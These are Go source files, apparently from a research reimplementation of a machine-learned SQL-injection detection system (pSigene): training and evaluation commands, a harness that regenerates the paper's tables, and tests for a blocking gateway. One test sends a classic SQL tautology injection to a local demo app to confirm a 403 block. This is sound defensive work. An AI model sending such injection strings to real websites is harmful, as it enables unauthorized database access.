		attacks = attackgen.NewGenerator(attackgen.CrawlProfile(), *seed).Requests(*nAttacks)
	}
	benign := traffic.NewGenerator(*seed + 1).Requests(*nBenign)

	fmt.Fprintf(w, "training on %d attack and %d benign samples...\n", len(attacks), len(benign))
	model, err := core.Train(attacks, benign, core.Config{Parallelism: *par, MinAttackSamples: *minSamp})
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "trained %d signatures over %d observed features (of %d candidates)\n",
		len(model.Signatures), model.Stats.ObservedFeatures, model.Stats.CandidateFeatures)
	fmt.Fprintf(w, "matrix sparsity: %.1f%% zeros, %.1f%% ones; cophenetic correlation %.3f\n",
		model.Stats.ZeroFraction*100, model.Stats.OneFraction*100, model.Stats.CopheneticCorrelation)
	for _, s := range model.Signatures {
		fmt.Fprintf(w, "  signature %d: %.0f samples, %d->%d features\n",
			s.ID, s.SampleWeight, s.BiclusterFeatures, len(s.Features))
	}
	if err := model.SaveFile(*out); err != nil {
		return err
	}
	fmt.Fprintf(w, "model written to %s\n", *out)
	return nil
}

func readSampleFile(path string) ([]httpx.Request, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var out []httpx.Request
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		req, err := httpx.ParseURL(line)
		if err != nil || req.RawQuery == "" {
			continue
		}
		req.Malicious = true
		req.Tool = "file"
		out = append(out, req)
	}
	return out, sc.Err()
}

func runCrawl(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("crawl", flag.ContinueOnError)
	var (
		portals   = fs.String("portals", "", "comma-separated portal base URLs (required)")
		out       = fs.String("out", "samples.txt", "output file of sample URLs")
		maxPages  = fs.Int("max-pages", 200, "page budget per portal")
		retries   = fs.Int("max-retries", 4, "retry budget per page (negative disables)")
		ckpt      = fs.String("checkpoint", "", "checkpoint file (single portal only); written every -checkpoint-every pages")
		ckptEvery = fs.Int("checkpoint-every", 10, "pages between checkpoints when -checkpoint is set")
		resume    = fs.Bool("resume", false, "resume from the -checkpoint file instead of starting over")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *portals == "" {
		return fmt.Errorf("crawl: -portals is required")
	}
	list := strings.Split(*portals, ",")
	opts := crawl.Options{MaxPages: *maxPages, MaxRetries: *retries}
	if *ckpt != "" {
		if len(list) != 1 {
			return fmt.Errorf("crawl: -checkpoint needs exactly one portal, got %d", len(list))
		}
		opts.CheckpointEvery = *ckptEvery
		path := *ckpt
		opts.Checkpoint = func(cp *crawl.Checkpoint) error {
			return crawl.SaveCheckpoint(cp, path)
		}
	} else if *resume {
		return fmt.Errorf("crawl: -resume requires -checkpoint")
	}
	c := crawl.New(opts)

	var (
		all     []httpx.Request
		results []*crawl.Result
		err     error
	)
	if *resume {
		cp, lerr := crawl.LoadCheckpoint(*ckpt)
		if lerr != nil {
			return lerr
		}
		fmt.Fprintf(w, "resuming %s crawl of %s: %d samples, %d pages already done\n",
			cp.Kind, cp.Portal, len(cp.Samples), cp.Health.PagesFetched)
		var res *crawl.Result
		res, err = c.Resume(cp)
		if res != nil {
			all, results = res.Samples, []*crawl.Result{res}
		}
	} else {
		all, results, err = c.CrawlAll(list)
	}
	if err != nil {
		// Partial results are the normal outcome against degraded portals;
		// report the damage and keep what was collected.
		fmt.Fprintf(w, "crawl degraded: %v\n", err)
	}
	for _, r := range results {
		fmt.Fprintf(w, "%s: %d pages, %d samples, CVEs: %s%s\n",
			r.Portal, r.PagesFetched, len(r.Samples), strings.Join(r.CVEs, " "), healthSuffix(r.Health))
	}
	if len(all) == 0 {
		return fmt.Errorf("crawl: no samples collected from any portal")
	}
	f, err := os.Create(*out)
	if err != nil {
		return err
	}
	defer f.Close()
	for _, s := range all {
		fmt.Fprintf(f, "http://%s%s\n", s.Host, s.URL())
	}
	fmt.Fprintf(w, "%d unique samples written to %s\n", len(all), *out)
	return nil
}

// healthSuffix renders a crawl Health as a compact annotation, empty when
// the crawl saw no trouble at all.
func healthSuffix(h crawl.Health) string {
	if h.Retries == 0 && h.PagesSkipped == 0 && h.RateLimited == 0 &&
		h.Malformed == 0 && h.BreakerTrips == 0 {
		return ""
	}
	return fmt.Sprintf(" [retries %d, rate-limited %d, malformed %d, quarantined %d, breaker trips %d]",
		h.Retries, h.RateLimited, h.Malformed, h.PagesSkipped, h.BreakerTrips)
}

func runInspect(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("inspect", flag.ContinueOnError)
	var (
		modelPath = fs.String("model", "model.json", "trained model path")
		url       = fs.String("url", "", "request URL to classify (required)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *url == "" {
		return fmt.Errorf("inspect: -url is required")
	}
	model, err := core.LoadFile(*modelPath)
	if err != nil {
		return err
	}
	req, err := httpx.ParseURL(*url)
	if err != nil {
		return err
	}
	verdict := model.Inspect(req)
	probs := model.Probabilities(req)
	if verdict.Alert {
		fmt.Fprintf(w, "ALERT: %s\n", strings.Join(verdict.Matched, " "))
	} else {
		fmt.Fprintln(w, "clean")
	}
	for i, s := range model.Signatures {
		fmt.Fprintf(w, "  signature %d: P(attack) = %.6f\n", s.ID, probs[i])
	}
	return nil
}

func runEval(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("eval", flag.ContinueOnError)
	var (
		modelPath = fs.String("model", "model.json", "trained model path")
		nAttacks  = fs.Int("attacks", 1000, "test attacks per tool")
		nBenign   = fs.Int("benign", 10000, "benign test requests")
		seed      = fs.Int64("seed", 100, "test-set seed")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	model, err := core.LoadFile(*modelPath)
	if err != nil {
		return err
	}
	for _, tool := range []struct {
		name    string
		profile attackgen.Profile
	}{
		{"sqlmap", attackgen.SQLMapProfile()},
		{"arachni", attackgen.ArachniProfile()},
		{"vega", attackgen.VegaProfile()},
	} {
		reqs := attackgen.NewGenerator(tool.profile, *seed).Requests(*nAttacks)
		r := ids.Evaluate(model, reqs)
		fmt.Fprintf(w, "%-8s TPR = %6.2f%%  (%d/%d)\n", tool.name, r.TPR()*100, r.TP, r.TP+r.FN)
	}
	benign := traffic.NewGenerator(*seed + 9).Requests(*nBenign)
	r := ids.Evaluate(model, benign)
	fmt.Fprintf(w, "%-8s FPR = %7.4f%% (%d/%d)\n", "benign", r.FPR()*100, r.FP, r.FP+r.TN)
	return nil
}

func runExport(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("export", flag.ContinueOnError)
	var (
		modelPath = fs.String("model", "model.json", "trained model path")
		out       = fs.String("out", "psigene.bro", "output Bro policy script")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	model, err := core.LoadFile(*modelPath)
	if err != nil {
		return err
	}
	script := model.ExportBro()
	if err := os.WriteFile(*out, []byte(script), 0o644); err != nil {
		return err
	}
	fmt.Fprintf(w, "%d signatures exported to %s (%d bytes)\n", len(model.Signatures), *out, len(script))
	return nil
}

func runTune(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("tune", flag.ContinueOnError)
	var (
		modelPath = fs.String("model", "model.json", "trained model path")
		out       = fs.String("out", "tuned.json", "output model path")
		targetFPR = fs.Float64("target-fpr", 0.0005, "per-signature false-positive budget")
		nAttacks  = fs.Int("attacks", 500, "validation attacks to generate")
		nBenign   = fs.Int("benign", 5000, "validation benign requests to generate")
		seed      = fs.Int64("seed", 300, "validation-set seed")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	model, err := core.LoadFile(*modelPath)
	if err != nil {
		return err
	}
	validation := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), *seed).Requests(*nAttacks),
		traffic.NewGenerator(*seed+1).Requests(*nBenign)...)
	thresholds, err := model.TuneThresholds(validation, *targetFPR)
	if err != nil {
		return err
	}
	for i, s := range model.Signatures {
		fmt.Fprintf(w, "signature %d: threshold %.6f\n", s.ID, thresholds[i])
	}
	if err := model.SaveFile(*out); err != nil {
		return err
	}
	fmt.Fprintf(w, "tuned model written to %s\n", *out)
	return nil
}
