package main

import (
	"strings"
	"testing"
)

func TestRunEnvFreeExperiments(t *testing.T) {
	// table1/table2/table4 need no trained environment and run fast.
	for _, exp := range []string{"table1", "table2", "table4"} {
		var out strings.Builder
		if err := run([]string{"-experiment", exp}, &out); err != nil {
			t.Fatalf("%s: %v", exp, err)
		}
		if out.Len() == 0 {
			t.Fatalf("%s produced no output", exp)
		}
	}
}

func TestRunUnknownExperiment(t *testing.T) {
	var out strings.Builder
	if err := run([]string{"-experiment", "table99"}, &out); err == nil {
		t.Fatal("unknown experiment: want error")
	}
}

func TestRunWithEnv(t *testing.T) {
	if testing.Short() {
		t.Skip("trains a model")
	}
	var out strings.Builder
	args := []string{
		"-experiment", "table5",
		"-train-attacks", "600", "-train-benign", "1500", "-benign-tests", "2000",
	}
	if err := run(args, &out); err != nil {
		t.Fatalf("table5: %v\n%s", err, out.String())
	}
	for _, want := range []string{"pSigene", "ModSecurity", "Bro", "TPR"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("table5 output missing %q:\n%s", want, out.String())
		}
	}
}
