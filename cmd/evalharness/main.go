// Command evalharness regenerates the paper's tables and figures.
//
// Usage:
//
//	evalharness -experiment all
//	evalharness -experiment table5 -train-attacks 6000 -benign-tests 20000
//	evalharness -experiment figure2 -out heatmap.svg
//
// Experiments: table1 table2 table3 table4 table5 table6 figure2 figure3
// figure4 incremental perdisci perf ablations all. Two extra experiments
// (not part of "all") write machine-readable JSON reports to -out:
// "lifecycle" benchmarks the crawl→retrain→validate→canary loop,
// "fastpath" benchmarks the serving fast path with the literal prefilter
// on vs. off (BENCH_fastpath.json), "abuse" benchmarks per-client
// admission control — zipfian keyed checks, million-entry denylist
// lookups, gateway overhead — plus the deterministic storm outcome
// (BENCH_abuse.json), and "fleet" benchmarks the multi-replica front —
// routing overhead, failover path, reload fanout, ring spread
// (BENCH_fleet.json).
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"psigene/internal/experiments"
	"psigene/internal/profiling"
	"psigene/internal/report"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "evalharness:", err)
		os.Exit(1)
	}
}

func run(args []string, w io.Writer) (retErr error) {
	fs := flag.NewFlagSet("evalharness", flag.ContinueOnError)
	var (
		exp        = fs.String("experiment", "all", "which experiment to run (table1..table6, figure2..figure4, incremental, perdisci, perf, ablations, lifecycle, fastpath, abuse, fleet, all)")
		out        = fs.String("out", "", "write figure artifacts (SVG/CSV) to this file")
		paperScale = fs.Bool("paper-scale", false, "use the paper's full corpus sizes (slow)")

		trainAttacks = fs.Int("train-attacks", 0, "override training attack count")
		trainBenign  = fs.Int("train-benign", 0, "override training benign count")
		benignTests  = fs.Int("benign-tests", 0, "override benign test count")
		seed         = fs.Int64("seed", 0, "override RNG seed")
		cpuProfile   = fs.String("cpuprofile", "", "write a CPU profile to this file")
		memProfile   = fs.String("memprofile", "", "write a heap profile to this file on exit")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	stopProf, err := profiling.Start(*cpuProfile, *memProfile)
	if err != nil {
		return err
	}
	defer func() {
		if err := stopProf(); err != nil && retErr == nil {
			retErr = err
		}
	}()

	scale := experiments.DefaultScale()
	if *paperScale {
		scale = experiments.PaperScale()
	}
	if *trainAttacks > 0 {
		scale.TrainAttacks = *trainAttacks
	}
	if *trainBenign > 0 {
		scale.TrainBenign = *trainBenign
	}
	if *benignTests > 0 {
		scale.BenignTests = *benignTests
	}
	if *seed > 0 {
		scale.Seed = *seed
	}

	sel := strings.ToLower(*exp)
	needsEnv := sel != "table1" && sel != "table2" && sel != "table4" && sel != "lifecycle" && sel != "fastpath" && sel != "abuse" && sel != "fleet"

	var env *experiments.Env
	if needsEnv {
		fmt.Fprintf(w, "setting up: %d train attacks, %d train benign, %d+%d test attacks, %d benign tests (seed %d)\n",
			scale.TrainAttacks, scale.TrainBenign, scale.SQLMapTests, scale.ArachniTests+scale.VegaTests, scale.BenignTests, scale.Seed)
		var err error
		env, err = experiments.Setup(scale)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "pSigene trained: %d signatures over %d observed features (cophenetic %.3f)\n\n",
			len(env.Model9.Signatures), env.Model9.Stats.ObservedFeatures, env.Model9.Stats.CopheneticCorrelation)
	}

	runOne := func(name string) error {
		switch name {
		case "table1":
			tbl, err := experiments.Table1(scale.Seed)
			if err != nil {
				return err
			}
			tbl.Render(w)
		case "table2":
			experiments.Table2().Render(w)
		case "table3":
			tbl, err := experiments.Table3(env)
			if err != nil {
				return err
			}
			tbl.Render(w)
		case "table4":
			experiments.Table4().Render(w)
		case "table5":
			_, tbl := experiments.Table5(env)
			tbl.Render(w)
		case "table6":
			experiments.Table6(env).Render(w)
		case "figure2":
			ascii, svg, res, err := experiments.Figure2(env, 0)
			if err != nil {
				return err
			}
			fmt.Fprintf(w, "Figure 2: %d biclusters selected, cophenetic correlation %.3f\n",
				len(res.Biclusters), res.CopheneticCorrelation)
			fmt.Fprintln(w, ascii)
			fmt.Fprintln(w, "sample-axis "+report.RenderDendrogram(res.RowDendrogram, 24, 50))
			fmt.Fprintln(w, "feature-axis "+report.RenderDendrogram(res.ColDendrogram, 24, 50))
			if *out != "" {
				if err := os.WriteFile(*out, []byte(svg), 0o644); err != nil {
					return err
				}
				fmt.Fprintf(w, "SVG written to %s\n", *out)
			}
		case "figure3":
			rocs, err := experiments.Figure3(env)
			if err != nil {
				return err
			}
			tbl := &report.Table{Title: "Figure 3: per-signature ROC", Headers: []string{"Signature", "AUC", "Points"}}
			for _, r := range rocs {
				tbl.AddRow(fmt.Sprint(r.SignatureID), report.F(r.AUC, 4), fmt.Sprint(len(r.Points)))
			}
			tbl.Render(w)
			if *out != "" {
				if strings.HasSuffix(*out, ".svg") {
					var series []report.Series
					for _, r := range rocs {
						s := report.Series{Name: fmt.Sprintf("Signature %d (AUC %.2f)", r.SignatureID, r.AUC)}
						for _, p := range r.Points {
							s.X = append(s.X, p.FPR)
							s.Y = append(s.Y, p.TPR)
						}
						series = append(series, s)
					}
					svg := report.LinePlotSVG("ROC Curves for Generalized Signatures",
						"False Positive Rate", "True Positive Rate", series, 0.05, 1)
					if err := os.WriteFile(*out, []byte(svg), 0o644); err != nil {
						return err
					}
					fmt.Fprintf(w, "SVG written to %s\n", *out)
					break
				}
				f, err := os.Create(*out)
				if err != nil {
					return err
				}
				defer f.Close()
				for _, r := range rocs {
					fmt.Fprintf(f, "# signature %d (AUC %.4f)\n", r.SignatureID, r.AUC)
					rows := make([][]float64, len(r.Points))
					for i, p := range r.Points {
						rows[i] = []float64{p.FPR, p.TPR, p.Threshold}
					}
					if err := report.WriteCSV(f, []string{"fpr", "tpr", "threshold"}, rows); err != nil {
						return err
					}
				}
				fmt.Fprintf(w, "CSV written to %s\n", *out)
			}
		case "figure4":
			rows := experiments.Figure4(env)
			tbl := &report.Table{Title: "Figure 4: cumulative TPR by signature", Headers: []string{"Signature", "Individual TPR", "Cumulative TPR", "Contribution"}}
			for _, r := range rows {
				tbl.AddRow(fmt.Sprint(r.SignatureID), report.Pct(r.Individual, 2), report.Pct(r.Cumulative, 2), report.Pct(r.Contribution, 2))
			}
			tbl.Render(w)
			if *out != "" && strings.HasSuffix(*out, ".svg") {
				var bars []report.Bar
				for _, r := range rows {
					bars = append(bars, report.Bar{Label: fmt.Sprint(r.SignatureID), Value: r.Cumulative, Overlay: r.Individual})
				}
				svg := report.BarChartSVG("Cumulative TPR for the pSigene signature set", bars)
				if err := os.WriteFile(*out, []byte(svg), 0o644); err != nil {
					return err
				}
				fmt.Fprintf(w, "SVG written to %s\n", *out)
			}
		case "incremental":
			rows, err := experiments.Experiment2(env)
			if err != nil {
				return err
			}
			tbl := &report.Table{Title: "Experiment 2: incremental learning", Headers: []string{"Training set", "TPR (SQLmap)", "FPR"}}
			for _, r := range rows {
				tbl.AddRow(r.Label, report.Pct(r.TPR, 2), report.Pct(r.FPR, 4))
			}
			tbl.Render(w)
		case "perdisci":
			res, err := experiments.Experiment3(env)
			if err != nil {
				return err
			}
			tbl := &report.Table{Title: "Experiment 3: comparison to Perdisci's approach", Headers: []string{"Metric", "Value"}}
			tbl.AddRow("fine-grained clusters", fmt.Sprint(res.FineGrainedClusters))
			tbl.AddRow("clusters after filtering", fmt.Sprint(res.AfterFiltering))
			tbl.AddRow("final signatures", fmt.Sprint(res.FinalSignatures))
			tbl.AddRow("TPR on unseen (SQLmap)", report.Pct(res.TPRUnseen, 2))
			tbl.AddRow("TPR on training set", report.Pct(res.TPRTrain, 2))
			tbl.AddRow("FPR", report.Pct(res.FPR, 4))
			tbl.Render(w)
		case "perf":
			rows := experiments.Experiment4(env, 2000)
			tbl := &report.Table{Title: "Experiment 4: per-request processing time", Headers: []string{"System", "Min", "Avg", "Max"}}
			for _, r := range rows {
				tbl.AddRow(r.System, r.Min.String(), r.Avg.String(), r.Max.String())
			}
			tbl.Render(w)
			for sys, x := range experiments.Slowdown(rows) {
				fmt.Fprintf(w, "pSigene slowdown vs %s: %.1fX\n", sys, x)
			}
		case "lifecycle":
			dir, err := os.MkdirTemp("", "psigene-lifecycle-bench-")
			if err != nil {
				return err
			}
			defer os.RemoveAll(dir)
			res, err := experiments.LifecycleBenchmark(dir, scale.Seed, 3)
			if err != nil {
				return err
			}
			tbl := &report.Table{Title: "Lifecycle benchmark", Headers: []string{"Round", "Action", "Version", "Round ms", "Replay req/s"}}
			for _, r := range res.Rounds {
				tbl.AddRow(fmt.Sprint(r.Round), r.Action, r.Version, report.F(r.RoundMillis, 1), report.F(r.ReplayRPS, 0))
			}
			fmt.Fprintf(w, "bootstrap: %s, %d signatures in %.1fms; serving %s after %d rounds\n",
				"v000001", res.Signatures, res.BootstrapMillis, res.ServingVersion, len(res.Rounds))
			tbl.Render(w)
			if *out != "" {
				blob, err := json.MarshalIndent(res, "", "  ")
				if err != nil {
					return err
				}
				if err := os.WriteFile(*out, append(blob, '\n'), 0o644); err != nil {
					return err
				}
				fmt.Fprintf(w, "JSON written to %s\n", *out)
			}
		case "fastpath":
			res, err := experiments.FastpathBenchmark(scale.Seed)
			if err != nil {
				return err
			}
			tbl := &report.Table{Title: "Fast-path benchmark", Headers: []string{"Case", "ns/op", "allocs/op", "B/op", "ops/s"}}
			for _, c := range res.Cases {
				tbl.AddRow(c.Name, report.F(c.NsPerOp, 0), fmt.Sprint(c.AllocsPerOp), fmt.Sprint(c.BytesPerOp), report.F(c.OpsPerSec, 0))
			}
			tbl.Render(w)
			fmt.Fprintf(w, "prefilter: %d literals gate %d/%d patterns (%d always-run); %d of %d evaluations skipped\n",
				res.Prefilter.Literals, res.Prefilter.Gated, res.Prefilter.Gated+res.Prefilter.AlwaysRun,
				res.Prefilter.AlwaysRun, res.Prefilter.Skipped, res.Prefilter.Skipped+res.Prefilter.Evaluated)
			fmt.Fprintf(w, "speedup: %.2fx inspect, %.2fx gateway; benign inspect %d allocs/op\n",
				res.InspectSpeedup, res.GatewaySpeedup, res.BenignAllocsPerOp)
			if *out != "" {
				blob, err := json.MarshalIndent(res, "", "  ")
				if err != nil {
					return err
				}
				if err := os.WriteFile(*out, append(blob, '\n'), 0o644); err != nil {
					return err
				}
				fmt.Fprintf(w, "JSON written to %s\n", *out)
			}
		case "abuse":
			res, err := experiments.AbuseBenchmark(scale.Seed)
			if err != nil {
				return err
			}
			tbl := &report.Table{Title: "Abuse-control benchmark", Headers: []string{"Case", "ns/op", "allocs/op", "B/op", "ops/s"}}
			for _, c := range res.Cases {
				tbl.AddRow(c.Name, report.F(c.NsPerOp, 0), fmt.Sprint(c.AllocsPerOp), fmt.Sprint(c.BytesPerOp), report.F(c.OpsPerSec, 0))
			}
			tbl.Render(w)
			fmt.Fprintf(w, "denylist: %d entries built in %.0fms; gateway overhead with admission on: %.1f%%\n",
				res.DenylistEntries, res.DenylistBuildMillis, res.GatewayOverheadPct)
			st := res.Storm
			fmt.Fprintf(w, "storm: hot caller %d allowed / %d limited / %d boxed (%d strikes); %d benign callers %d allowed, %d shed\n",
				st.HotAllowed, st.HotLimited, st.HotBoxed, st.HotStrikes, st.BenignCallers, st.BenignAllowed, st.BenignShed)
			if *out != "" {
				blob, err := json.MarshalIndent(res, "", "  ")
				if err != nil {
					return err
				}
				if err := os.WriteFile(*out, append(blob, '\n'), 0o644); err != nil {
					return err
				}
				fmt.Fprintf(w, "JSON written to %s\n", *out)
			}
		case "fleet":
			res, err := experiments.FleetBenchmark(scale.Seed)
			if err != nil {
				return err
			}
			tbl := &report.Table{Title: "Fleet benchmark", Headers: []string{"Case", "ns/op", "allocs/op", "B/op", "ops/s"}}
			for _, c := range res.Cases {
				tbl.AddRow(c.Name, report.F(c.NsPerOp, 0), fmt.Sprint(c.AllocsPerOp), fmt.Sprint(c.BytesPerOp), report.F(c.OpsPerSec, 0))
			}
			tbl.Render(w)
			fmt.Fprintf(w, "front overhead: %.1f%%; failover penalty (1/%d down): %.1f%%; reload fanout %.1fms over %d rounds; spread %v\n",
				res.FrontOverheadPct, res.Replicas, res.FailoverPenaltyPct, res.ReloadFanoutMillis, res.ReloadRounds, res.Spread)
			if *out != "" {
				blob, err := json.MarshalIndent(res, "", "  ")
				if err != nil {
					return err
				}
				if err := os.WriteFile(*out, append(blob, '\n'), 0o644); err != nil {
					return err
				}
				fmt.Fprintf(w, "JSON written to %s\n", *out)
			}
		case "ablations":
			tbl := &report.Table{Title: "Ablations", Headers: []string{"Variant", "TPR (SQLmap)", "FPR"}}
			if r, err := experiments.AblationBinaryFeatures(env); err == nil {
				tbl.AddRow(r.Variant, report.Pct(r.TPR, 2), report.Pct(r.FPR, 4))
			} else {
				tbl.AddRow("binary features", "error: "+err.Error(), "")
			}
			if r, err := experiments.AblationGlobalLR(env); err == nil {
				tbl.AddRow(r.Variant, report.Pct(r.TPR, 2), report.Pct(r.FPR, 4))
			} else {
				tbl.AddRow("single global LR", "error: "+err.Error(), "")
			}
			if rows, err := experiments.AblationLinkage(env); err == nil {
				for _, r := range rows {
					tbl.AddRow(r.Variant, report.Pct(r.TPR, 2), report.Pct(r.FPR, 4))
				}
			} else {
				tbl.AddRow("linkage ablation", "error: "+err.Error(), "")
			}
			for _, r := range experiments.ThresholdSweep(env, []float64{0.1, 0.3, 0.5, 0.7, 0.9}) {
				tbl.AddRow(r.Variant, report.Pct(r.TPR, 2), report.Pct(r.FPR, 4))
			}
			tbl.Render(w)
		default:
			return fmt.Errorf("unknown experiment %q", name)
		}
		fmt.Fprintln(w)
		return nil
	}

	if sel == "all" {
		for _, name := range []string{"table1", "table2", "table3", "table4", "table5", "table6",
			"figure2", "figure3", "figure4", "incremental", "perdisci", "perf", "ablations"} {
			if err := runOne(name); err != nil {
				return fmt.Errorf("%s: %w", name, err)
			}
		}
		return nil
	}
	return runOne(sel)
}
