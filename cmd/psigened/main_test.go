package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/traffic"
	"psigene/internal/webapp"
)

func TestRunFlagErrors(t *testing.T) {
	var sb strings.Builder
	if err := run(nil, &sb, nil); err == nil {
		t.Fatal("missing -model/-upstream: want error")
	}
	if err := run([]string{"-model", "m.json"}, &sb, nil); err == nil {
		t.Fatal("missing -upstream: want error")
	}
	if err := run([]string{"-model", "m.json", "-upstream", "http://h", "-policy", "bogus"}, &sb, nil); err == nil {
		t.Fatal("bad -policy: want error")
	}
	if err := run([]string{"-model", "/nonexistent.json", "-upstream", "http://h"}, &sb, nil); err == nil {
		t.Fatal("missing model file: want error")
	}
}

// TestDaemonEndToEnd boots the real daemon in front of the demo webapp:
// benign traffic passes, an injection is blocked with 403, admin
// endpoints answer, and the stop hook drains cleanly.
func TestDaemonEndToEnd(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 41).Requests(1200)
	benign := traffic.NewGenerator(42).Requests(1500)
	m, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	model := filepath.Join(t.TempDir(), "model.json")
	if err := m.SaveFile(model); err != nil {
		t.Fatal(err)
	}

	up := httptest.NewServer(webapp.New(20))
	defer up.Close()

	hooks := &testHooks{ready: make(chan string, 1), stop: make(chan struct{})}
	var out strings.Builder
	done := make(chan error, 1)
	go func() {
		done <- run([]string{
			"-model", model, "-upstream", up.URL, "-listen", "127.0.0.1:0",
		}, &out, hooks)
	}()
	addr := <-hooks.ready
	base := "http://" + addr

	get := func(path string) (*http.Response, string) {
		t.Helper()
		resp, err := http.Get(base + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp, string(body)
	}

	if resp, _ := get("/-/healthz"); resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: %d", resp.StatusCode)
	}
	if resp, _ := get("/-/readyz"); resp.StatusCode != http.StatusOK {
		t.Fatalf("readyz: %d", resp.StatusCode)
	}
	// A benign lookup proxies through to the webapp.
	resp, body := get("/wavsep/Case1.jsp?id=3")
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, "<html>") {
		t.Fatalf("benign: %d %q", resp.StatusCode, body)
	}
	if resp.Header.Get("X-Psigene-Gen") != "1" {
		t.Fatalf("generation header %q", resp.Header.Get("X-Psigene-Gen"))
	}
	// A classic tautology is stopped at the gateway.
	resp, _ = get("/wavsep/Case1.jsp?id=1%27%20or%20%271%27=%271")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("injection: %d, want 403", resp.StatusCode)
	}
	if resp.Header.Get("X-Psigene-Signatures") == "" {
		t.Fatal("blocked response must name the matching signatures")
	}
	if resp, body := get("/-/statz"); resp.StatusCode != http.StatusOK || !strings.Contains(body, `"blocked": 1`) {
		t.Fatalf("statz: %d %s", resp.StatusCode, body)
	}

	close(hooks.stop)
	if err := <-done; err != nil {
		t.Fatalf("daemon exit: %v\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "drained, bye") {
		t.Fatalf("missing drain log:\n%s", out.String())
	}
}

// TestDaemonListenConflict covers the bind-failure path.
func TestDaemonListenConflict(t *testing.T) {
	model := filepath.Join(t.TempDir(), "model.json")
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 43).Requests(600)
	benign := traffic.NewGenerator(44).Requests(900)
	m, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	if err := m.SaveFile(model); err != nil {
		t.Fatal(err)
	}
	up := httptest.NewServer(webapp.New(5))
	defer up.Close()
	var sb strings.Builder
	err = run([]string{"-model", model, "-upstream", up.URL, "-listen", "256.256.256.256:1"}, &sb, nil)
	if err == nil {
		t.Fatal("unbindable address: want error")
	}
	_ = fmt.Sprint(err)
}
