package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/traffic"
	"psigene/internal/webapp"
)

func TestRunFlagErrors(t *testing.T) {
	var sb strings.Builder
	if err := run(nil, &sb, nil); err == nil {
		t.Fatal("missing -model/-upstream: want error")
	}
	if err := run([]string{"-model", "m.json"}, &sb, nil); err == nil {
		t.Fatal("missing -upstream: want error")
	}
	if err := run([]string{"-model", "m.json", "-upstream", "http://h", "-policy", "bogus"}, &sb, nil); err == nil {
		t.Fatal("bad -policy: want error")
	}
	if err := run([]string{"-model", "/nonexistent.json", "-upstream", "http://h"}, &sb, nil); err == nil {
		t.Fatal("missing model file: want error")
	}
}

// TestDaemonEndToEnd boots the real daemon in front of the demo webapp:
// benign traffic passes, an injection is blocked with 403, the admin
// surface answers on its own token-guarded listener (and is absent from
// the data path), and the stop hook drains cleanly.
func TestDaemonEndToEnd(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 41).Requests(1200)
	benign := traffic.NewGenerator(42).Requests(1500)
	m, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	model := filepath.Join(t.TempDir(), "model.json")
	if err := m.SaveFile(model); err != nil {
		t.Fatal(err)
	}

	up := httptest.NewServer(webapp.New(20))
	defer up.Close()

	hooks := &testHooks{
		ready:      make(chan string, 1),
		adminReady: make(chan string, 1),
		stop:       make(chan struct{}),
	}
	var out strings.Builder
	done := make(chan error, 1)
	go func() {
		done <- run([]string{
			"-model", model, "-upstream", up.URL,
			"-listen", "127.0.0.1:0", "-admin-listen", "127.0.0.1:0",
			"-admin-token", "hunter2",
		}, &out, hooks)
	}()
	base := "http://" + <-hooks.ready
	adminBase := "http://" + <-hooks.adminReady

	get := func(base, path, token string) (*http.Response, string) {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, base+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp, string(body)
	}

	if resp, _ := get(adminBase, "/-/healthz", ""); resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("admin without token: %d, want 401", resp.StatusCode)
	}
	if resp, _ := get(adminBase, "/-/healthz", "hunter2"); resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: %d", resp.StatusCode)
	}
	if resp, _ := get(adminBase, "/-/readyz", "hunter2"); resp.StatusCode != http.StatusOK {
		t.Fatalf("readyz: %d", resp.StatusCode)
	}
